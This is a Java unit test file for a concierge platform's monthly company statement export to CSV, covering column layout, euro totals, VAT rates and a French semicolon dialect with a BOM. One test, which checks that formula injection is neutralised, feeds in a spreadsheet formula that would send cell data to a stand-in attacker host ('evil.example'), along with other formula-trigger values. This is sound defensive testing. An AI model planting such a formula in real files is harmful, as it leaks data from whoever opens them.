package fr.centreisere.concierge.order.company.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.io.StringReader;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;

import fr.centreisere.concierge.order.company.Statement;
import fr.centreisere.concierge.order.company.web.CompanyViews.StatementView;
import fr.centreisere.concierge.order.money.Money;
import fr.centreisere.concierge.order.orders.OrderState;
import fr.centreisere.concierge.order.orders.ServiceTitle;
import fr.centreisere.concierge.order.orders.Slot;
import fr.centreisere.concierge.platform.export.CsvDialect;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.commons.io.ByteOrderMark;
import org.apache.commons.io.input.BOMInputStream;
import org.junit.jupiter.api.Test;

/**
 * The statement's file: the contract's RFC 4180 CSV (the columns of issue 7 first, unchanged), and the French
 * dialect of the same lines with names, not codes, read back by a parser set to {@code ;} and the BOM.
 */
class StatementExportTest {

    private static final String[] HEADER = { "order_number", "completed_on", "completed_at", "employee_id", "employee_name",
            "employee_email", "service_id", "service", "category", "total_eur", "employer_share_eur",
            "employee_share_eur", "subtotal_eur", "vat_rate_percent", "vat_eur", "state", "slot_date", "line" };

    @Test
    void theCsvReadsBackWithItsHeaderEurosWithTwoDecimalsAndTotals() throws IOException {
        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", "Étienne \"Tin\" Employé, junior", 5_000, "20", 3_000,
                        Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "Inès Garnier", 1_005, "0", 5, Instant.parse("2026-11-30T23:00:00Z"))));

        String csv = StatementExport.csv(statement, CsvDialect.RFC_4180);

        assertThat(csv).contains("\r\n").doesNotStartWith("\uFEFF");
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            assertThat(parser.getHeaderNames()).containsExactly(HEADER);
            List<CSVRecord> records = parser.getRecords();
            // two orders, the total, two VAT rates, no commitment, the commitments' total
            assertThat(records).extracting(r -> r.get("line"))
                    .containsExactly("ORDER", "ORDER", "TOTAL", "VAT_TOTAL", "VAT_TOTAL", "COMMITMENTS_TOTAL");
            CSVRecord first = records.get(0);
            assertThat(first.get("order_number")).isEqualTo("CI-2026-000002");
            assertThat(first.get("completed_on")).isEqualTo("2026-12-01");
            assertThat(first.get("completed_at")).isEqualTo("2026-12-01T00:00:00");
            assertThat(first.get("total_eur")).isEqualTo("10.05");
            assertThat(first.get("employer_share_eur")).isEqualTo("0.05");
            assertThat(first.get("employee_share_eur")).isEqualTo("10.00");
            assertThat(first.get("category")).isEqualTo("SMALL_REPAIRS");
            CSVRecord second = records.get(1);
            assertThat(second.get("employee_name")).isEqualTo("Étienne \"Tin\" Employé, junior");
            assertThat(second.get("service")).isEqualTo("Réparation de vélo");
            assertThat(second.get("subtotal_eur")).isEqualTo("50.00");
            assertThat(second.get("vat_rate_percent")).isEqualTo("20");
            assertThat(second.get("vat_eur")).isEqualTo("10.00");
            CSVRecord total = records.get(2);
            assertThat(total.get("order_number")).isEqualTo("TOTAL");
            assertThat(total.get("total_eur")).isEqualTo("70.05");
            assertThat(total.get("employer_share_eur")).isEqualTo("30.05");
            assertThat(total.get("employee_share_eur")).isEqualTo("40.00");
            assertThat(total.get("subtotal_eur")).isEqualTo("60.05");
            assertThat(total.get("vat_eur")).isEqualTo("10.00");
            // the totals row is the sum of the lines
            assertThat(records.subList(0, 2).stream().mapToLong(r -> cents(r.get("employer_share_eur"))).sum())
                    .isEqualTo(cents(total.get("employer_share_eur")));
            assertThat(records.get(3).get("vat_rate_percent")).isEqualTo("0");
            assertThat(records.get(3).get("total_eur")).isEqualTo("10.05");
            assertThat(records.get(4).get("vat_rate_percent")).isEqualTo("20");
            assertThat(records.get(4).get("vat_eur")).isEqualTo("10.00");
        }
    }

    @Test
    void cellsASpreadsheetWouldTakeForFormulasAreNeutralisedWithAQuote() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", formula, 5_000, "20", 3_000, Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "+33 4 76 00 00 00", 1_000, "0", 0, Instant.parse("2026-12-06T15:00:00Z")),
                line("ord-3", "CI-2026-000003", "-1+1", 1_000, "0", 0, Instant.parse("2026-12-07T15:00:00Z")),
                line("ord-4", "CI-2026-000004", "@SUM(A1:A9)", 1_000, "0", 0, Instant.parse("2026-12-08T15:00:00Z")),
                line("ord-5", "CI-2026-000005", "\tTab", 1_000, "0", 0, Instant.parse("2026-12-09T15:00:00Z")),
                line("ord-6", "CI-2026-000006", "\rReturn", 1_000, "0", 0, Instant.parse("2026-12-10T15:00:00Z"))));

        String csv = StatementExport.csv(statement, CsvDialect.RFC_4180);

        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            List<String> names = parser.getRecords().stream().filter(r -> r.get("line").equals("ORDER"))
                    .map(r -> r.get("employee_name")).toList();
            assertThat(names).containsExactly("'" + formula, "'+33 4 76 00 00 00", "'-1+1", "'@SUM(A1:A9)", "'\tTab",
                    "'\rReturn");
        }
        // amounts the statement writes itself stay numbers (a negative total is not a formula to neutralise)
        assertThat(csv).contains(",60.00,30.00,30.00,50.00,20,10.00,,,ORDER\r\n");
    }

    @Test
    void anEmptyMonthIsAHeaderAndZeroTotals() {
        String csv = StatementExport.csv(new Statement("cmp-alpes", "Alpes", YearMonth.of(2026, 12), List.of()),
                CsvDialect.RFC_4180);
        assertThat(csv).startsWith("order_number,completed_on,")
                .contains("\r\nTOTAL,,,,,,,,,0.00,0.00,0.00,0.00,,0.00,,,TOTAL\r\n")
                .endsWith(",,,,,,,,,0.00,0.00,0.00,0.00,,0.00,,,COMMITMENTS_TOTAL\r\n");
    }

    @Test
    void theFrenchCsvReadBackWithItsBomAndSemicolonsGivesTheJsonFigures() throws IOException {
        Statement statement = sample();
        StatementView json = CompanyViews.of(statement);

        byte[] bytes = StatementExport.csv(statement, CsvDialect.FRENCH).getBytes(StandardCharsets.UTF_8);

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        try (BOMInputStream in = BOMInputStream.builder().setInputStream(new ByteArrayInputStream(bytes)).get();
                Reader reader = new InputStreamReader(in, StandardCharsets.UTF_8);
                CSVParser parser = CSVFormat.RFC4180.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true)
                        .get().parse(reader)) {
            assertThat(in.getBOM()).isEqualTo(ByteOrderMark.UTF_8);
            assertThat(parser.getHeaderNames()).startsWith("N° de commande", "Terminée le", "Terminée à")
                    .contains("Total HT (€)", "Taux de TVA (%)", "TVA (€)", "Total TTC (€)", "Catégorie", "État")
                    .doesNotContain("Code salarié", "Code service");
            List<CSVRecord> records = parser.getRecords();
            List<CSVRecord> orders = records.stream().filter(r -> r.get("Ligne").equals("Commande terminée")).toList();
            assertThat(orders).hasSize(json.lines().size());
            for (int i = 0; i < orders.size(); i++) {
                CSVRecord row = orders.get(i);
                CompanyViews.LineView line = json.lines().get(i);
                assertThat(row.get("N° de commande")).isEqualTo(line.orderNumber());
                assertThat(cents(row.get("Total HT (€)"))).isEqualTo(line.subtotalCents());
                assertThat(cents(row.get("TVA (€)"))).isEqualTo(line.vatCents());
                assertThat(cents(row.get("Total TTC (€)"))).isEqualTo(line.totalCents());
                assertThat(cents(row.get("Part employeur (€)"))).isEqualTo(line.employerShareCents());
                assertThat(cents(row.get("Part salarié (€)"))).isEqualTo(line.employeeShareCents());
                assertThat(decimal(row.get("Taux de TVA (%)"))).isEqualByComparingTo(line.vatRatePercent());
                assertThat(row.get("Catégorie")).isEqualTo("Petites réparations");
            }
            assertThat(orders.get(0).get("Terminée le")).isEqualTo("01/12/2026");
            assertThat(orders.get(0).get("Terminée à")).isEqualTo("01/12/2026 00:00");
            assertThat(orders.get(1).get("Salarié")).isEqualTo("'=1+1");

            CSVRecord total = records.stream().filter(r -> r.get("N° de commande").equals("TOTAL")).findFirst().orElseThrow();
            assertThat(cents(total.get("Total TTC (€)"))).isEqualTo(json.totalCents());
            assertThat(cents(total.get("Total HT (€)"))).isEqualTo(json.subtotalCents());
            assertThat(cents(total.get("TVA (€)"))).isEqualTo(json.vatCents());
            assertThat(cents(total.get("Part employeur (€)"))).isEqualTo(json.employerTotalCents());
            assertThat(cents(total.get("Part salarié (€)"))).isEqualTo(json.employeeTotalCents());

            List<CSVRecord> rates = records.stream().filter(r -> r.get("Ligne").equals("Total au taux de TVA")).toList();
            assertThat(rates).hasSize(json.vatTotals().size()).hasSize(4);
            for (int i = 0; i < rates.size(); i++) {
                assertThat(decimal(rates.get(i).get("Taux de TVA (%)"))).isEqualByComparingTo(json.vatTotals().get(i).ratePercent());
                assertThat(cents(rates.get(i).get("TVA (€)"))).isEqualTo(json.vatTotals().get(i).vatCents());
                assertThat(cents(rates.get(i).get("Total HT (€)"))).isEqualTo(json.vatTotals().get(i).subtotalCents());
            }
            assertThat(rates.get(1).get("Taux de TVA (%)")).isEqualTo("5,5");

            List<CSVRecord> commitments = records.stream().filter(r -> r.get("Ligne").startsWith("Engagement")).toList();
            assertThat(commitments).hasSize(1);
            assertThat(commitments.get(0).get("État")).isEqualTo("Acceptée par une structure");
            assertThat(commitments.get(0).get("Prévue le")).isEqualTo("18/12/2026");
            CSVRecord committed = records.get(records.size() - 1);
            assertThat(committed.get("Ligne")).isEqualTo("Total des engagements");
            assertThat(cents(committed.get("Total TTC (€)"))).isEqualTo(json.commitmentTotals().totalCents());
            assertThat(cents(committed.get("Part employeur (€)"))).isEqualTo(json.commitmentTotals().employerShareCents());
        }
    }

    @Test
    void theJsonTotalsAreExactToTheCentAndTheSumsOfTheLinesAtEveryRate() {
        StatementView json = CompanyViews.of(sample());

        assertThat(json.subtotalCents()).isEqualTo(json.lines().stream().mapToLong(CompanyViews.LineView::subtotalCents).sum());
        assertThat(json.vatCents()).isEqualTo(json.lines().stream().mapToLong(CompanyViews.LineView::vatCents).sum());
        assertThat(json.totalCents()).isEqualTo(json.subtotalCents() + json.vatCents());
        assertThat(json.totalCents()).isEqualTo(json.employerTotalCents() + json.employeeTotalCents());
        assertThat(json.vatTotals().stream().mapToLong(CompanyViews.VatTotalView::vatCents).sum()).isEqualTo(json.vatCents());
        assertThat(json.vatTotals().stream().mapToLong(CompanyViews.VatTotalView::totalCents).sum()).isEqualTo(json.totalCents());
        // 20 %: 50.00 + 33.33 HT → 10.00 + 6.67 VAT (each rounded once, on its own order); 5.5 %: 19.99 → 1.10; 10 %: 12.35 → 1.24
        assertThat(json.vatTotals()).extracting(CompanyViews.VatTotalView::ratePercent).map(BigDecimal::toPlainString)
                .containsExactly("0", "5.5", "10", "20");
        assertThat(json.vatTotals()).extracting(CompanyViews.VatTotalView::vatCents).containsExactly(0L, 110L, 124L, 1_667L);
        assertThat(json.vatCents()).isEqualTo(1_901);
        assertThat(json.subtotalCents()).isEqualTo(5_000 + 1_005 + 3_333 + 1_999 + 1_235);
        assertThat(json.commitments()).hasSize(1);
        assertThat(json.commitmentTotals().totalCents()).isEqualTo(json.commitments().get(0).totalCents()).isEqualTo(3_600);
    }

    /** Five completed orders at four VAT rates (one exempt) and one accepted order of the month. */
    private static Statement sample() {
        return new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", "=1+1", 5_000, "20", 3_000, Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "Inès Garnier", 1_005, "0", 5, Instant.parse("2026-11-30T23:00:00Z")),
                line("ord-3", "CI-2026-000003", "Inès Garnier", 3_333, "20", 1_000, Instant.parse("2026-12-07T15:00:00Z")),
                line("ord-4", "CI-2026-000004", "Paul Rey", 1_999, "5.5", 2_109, Instant.parse("2026-12-08T15:00:00Z")),
                line("ord-5", "CI-2026-000005", "Paul Rey", 1_235, "10", 0, Instant.parse("2026-12-09T15:00:00Z"))),
                List.of(new Statement.Commitment("ord-6", "CI-2026-000006", "usr-2", "Paul Rey",
                        new ServiceTitle("Réparation de vélo", "Bike repair"), "SMALL_REPAIRS", OrderState.ASSIGNED,
                        LocalDate.of(2026, 12, 18), Money.ofCents(3_000), new BigDecimal("20"), Money.ofCents(600),
                        Money.ofCents(3_600), Money.ofCents(1_800), Money.ofCents(1_800))));
    }

    private static long cents(String euros) {
        return new BigDecimal(euros.replace(',', '.')).movePointRight(2).longValueExact();
    }

    private static BigDecimal decimal(String french) {
        return new BigDecimal(french.replace(',', '.'));
    }

    /** A completed order of {@code subtotal} cents HT at {@code rate} % (VAT rounded half up, as PriceBreakdown does). */
    private static Statement.Line line(String id, String number, String name, long subtotal, String rate, long employer,
            Instant completedAt) {
        BigDecimal ratePercent = new BigDecimal(rate);
        long vat = BigDecimal.valueOf(subtotal).multiply(ratePercent).divide(BigDecimal.valueOf(100), 0, RoundingMode.HALF_UP)
                .longValueExact();
        long total = subtotal + vat;
        return new Statement.Line(id, number, "usr-1", name, "e@alpes-numerique.fr", "svc-reparation-velo",
                new ServiceTitle("Réparation de vélo", "Bike repair"), "SMALL_REPAIRS",
                LocalDate.ofInstant(completedAt, Slot.TERRITORY_ZONE), completedAt, Money.ofCents(total),
                Money.ofCents(employer), Money.ofCents(total - employer), Money.ofCents(subtotal), ratePercent,
                Money.ofCents(vat));
    }
}
